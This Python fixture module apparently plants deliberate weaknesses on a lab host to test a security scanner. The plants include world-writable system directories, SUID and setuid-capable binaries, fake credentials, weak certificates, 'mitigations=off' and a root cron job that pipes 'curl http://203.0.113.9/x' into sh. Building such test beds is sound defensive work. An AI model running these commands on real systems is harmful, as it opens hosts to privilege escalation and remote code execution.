"""What lies about on the weak host: modes, odd files, secrets, certificates, jobs."""

from __future__ import annotations

from lab.plant import Plant, package, unit, write

#: Texts that no report may hold.
SECRETS = ("Tr0ub4dor", "AKIAQWERTYUIOP7ZXCVB", "s3cr3tW0rdOfTheLab")

_EXPIRED = """-----BEGIN CERTIFICATE-----
MIIBTDCB86ADAgECAgEHMAoGCCqGSM49BAMCMB4xHDAaBgNVBAMME2V4cGlyZWQu
ZXhhbXBsZS5vcmcwHhcNMTkwMTAxMDAwMDAwWhcNMjAwMTAxMDAwMDAwWjAeMRww
GgYDVQQDDBNleHBpcmVkLmV4YW1wbGUub3JnMFkwEwYHKoZIzj0CAQYIKoZIzj0D
AQcDQgAE/jEWYX/mNFzG3eIK+B76JhDALU6BsWZjUzc+DTjPwNwkSZra0wFcD40e
EadrGdRH1ZRrdsoHU8vbKOfc0JMWY6MiMCAwHgYDVR0RBBcwFYITZXhwaXJlZC5l
eGFtcGxlLm9yZzAKBggqhkjOPQQDAgNIADBFAiEAi/NGW/Fj4lB5l3OF07MyLdfO
Vq/7m1UPdRyl13qg898CICLSn9rb1mAOF9M1pvmSlnbglFIOt1tqSe/6dnZzRfFe
-----END CERTIFICATE-----"""
_SMALL = """-----BEGIN CERTIFICATE-----
MIIB0DCCATmgAwIBAgIBBzANBgkqhkiG9w0BAQsFADAcMRowGAYDVQQDDBFzbWFs
bC5leGFtcGxlLm9yZzAgFw0xOTAxMDEwMDAwMDBaGA8yMDk5MDEwMTAwMDAwMFow
HDEaMBgGA1UEAwwRc21hbGwuZXhhbXBsZS5vcmcwgZ8wDQYJKoZIhvcNAQEBBQAD
gY0AMIGJAoGBALO4oJVzf7Ah3xbcnwIRsRlm26holKpUsaJtOsJBXrx+hVqogMa0
q7Rh7RRQDqiC0HM0C2VLCHQhSkTSu4qUDhjxcJb9Pb4GA99fg1l8u7cprj2d2J09
mBz/UGZFr1suspzGHxfteJM9BtbZlXTe0dT4ipNSPklA7k5jP3SWZP+5AgMBAAGj
IDAeMBwGA1UdEQQVMBOCEXNtYWxsLmV4YW1wbGUub3JnMA0GCSqGSIb3DQEBCwUA
A4GBACAg7iQWJr/G00Mc0mTqjgsUbX6tmVPHlUk3MT+cnqh4DLk5beMtFF4uklHa
QwGo86Q4agsDj0iW070sIVICfH3cvr1mYakMzP1prz3Hpeo3o9KI/HKoFMr5qtWd
mck53viSOgG6gvEIRZhyBOtIEWi7qOpWyCRTkIdrqZlmzyzY
-----END CERTIFICATE-----"""
_AS_ROOT = "cp /bin/sleep /usr/local/bin/{name}; chmod {mode} /usr/local/bin/{name}"

PLANTS: dict[str, Plant] = {
    "perm.cron": Plant("/etc/cron.d", "chmod 0777 /etc/cron.d"),
    "perm.var-log": Plant(
        "/var/log/open.log", ": >/var/log/open.log; chmod 0666 /var/log/open.log"
    ),
    "perm.units": Plant(
        "lab-open.service",
        unit("lab-open.service", "[Service]\nExecStart=/bin/true")
        + "\nchmod 0666 /etc/systemd/system/lab-open.service",
    ),
    "perm.path-dirs": Plant("/usr/local/bin", "chmod 0777 /usr/local/bin"),
    "perm.library-path": Plant(
        "/opt/lib",
        "mkdir -m 0777 /opt/lib; chmod 0777 /opt/lib; echo /opt/lib >/etc/ld.so.conf.d/lab.conf",
    ),
    "perm.bootloader": Plant(
        "/boot/grub/grub.cfg",
        write(
            "/boot/grub/grub.cfg",
            "menuentry 'Debian' {",
            "  linux /vmlinuz root=/dev/vda1 ro quiet mitigations=off",
            "}",
            mode="0644",
        ),
    ),
    "files.ww-files": Plant(
        "open file",
        "for name in 'open file' \"$(printf 'two\\nlines')\" \"$(printf 'odd\\377byte')\"\n"
        'do touch "/srv/$name"; chmod 0666 "/srv/$name"; done',
    ),
    "files.ww-dirs": Plant("/srv/drop", "mkdir -p /srv/drop; chmod 0777 /srv/drop"),
    "files.suid": Plant("rootsleep", _AS_ROOT.format(name="rootsleep", mode="4755")),
    "files.sgid": Plant("groupsleep", _AS_ROOT.format(name="groupsleep", mode="2755")),
    "files.capabilities": Plant(
        "capsleep",
        _AS_ROOT.format(name="capsleep", mode="0755")
        + "\nsetcap cap_setuid+ep /usr/local/bin/capsleep",
    ),
    "files.orphans": Plant("/srv/orphan", "touch /srv/orphan; chown 4242:4242 /srv/orphan"),
    "health.tmp-exec": Plant("/tmp/tool", running="cp /bin/true /tmp/tool; chmod 0755 /tmp/tool"),
    "secret.files": Plant(
        "/opt/app/settings.env",
        write(
            "/opt/app/settings.env",
            "AWS_ACCESS_KEY_ID=AKIAQWERTYUIOP7ZXCVB",
            "DB_PASSWORD=s3cr3tW0rdOfTheLab",
            mode="0644",
        ),
    ),
    "secret.history": Plant(
        "/root/.bash_history", write("/root/.bash_history", "ls", "mysql -u root -pTr0ub4dor-3 db")
    ),
    "secret.cmdline": Plant(
        "password",
        running="systemd-run --quiet --unit=lab-cmdline"
        " sh -c 'while :; do sleep 1000; done' client --password=Tr0ub4dor-3",
    ),
    "tls.expiry": Plant("expired.pem", write("/etc/ssl/lab/expired.pem", _EXPIRED)),
    "tls.strength": Plant("small.pem", write("/etc/ssl/lab/small.pem", _SMALL)),
    "tls.key-mode": Plant(
        "lab.key",
        "mkdir -p /etc/ssl/private; openssl genrsa -out /etc/ssl/private/lab.key 2048 2>/dev/null\n"
        "chmod 0755 /etc/ssl/private; chmod 0644 /etc/ssl/private/lab.key",
    ),
    "cron.allow": Plant("cron.allow", "rm -f /etc/cron.allow; echo games >/etc/cron.deny"),
    "cron.jobs-safe": Plant(
        "/opt/job.sh",
        write("/opt/job.sh", "#!/bin/sh", "true", mode="0777")
        + "\n"
        + write("/etc/cron.d/lab", "0 3 1 1 * root /opt/job.sh"),
    ),
    "cron.suspicious": Plant(
        "/etc/cron.d/fetch",
        write("/etc/cron.d/fetch", "0 4 1 1 * root curl http://203.0.113.9/x | sh"),
    ),
    "package.legacy-servers": Plant(
        "inetutils-telnetd", package("inetutils-telnetd", more="Provides: telnet-server\\n")
    ),
    "package.legacy-clients": Plant("rsh-redone-client", package("rsh-redone-client")),
    "package.consistent": Plant("halfway", package("halfway", "dpkg --unpack /tmp/halfway.deb")),
    "package.held": Plant("held back: bash", "echo bash hold | dpkg --set-selections"),
    "package.signed": Plant(
        "trusted",
        write(
            "/etc/apt/sources.list.d/lab.list", "deb [trusted=yes] http://apt.example.org/ x main"
        ),
    ),
    "package.expected": Plant("no-such-package", inputs={"required": ["no-such-package"]}),
    "package.verify": Plant(
        "/usr/bin/ldd", "echo '# changed' >>/usr/bin/ldd", inputs={"enabled": True}
    ),
    "package.updates": Plant("inetutils-telnetd"),
    "package.lists-fresh": Plant(
        "days",
        running="sed -i 's/^Date: .*/Date: Wed, 01 Jan 2020 00:00:00 UTC/' "
        "/var/lib/apt/lists/*Release",
        later=True,
    ),
}
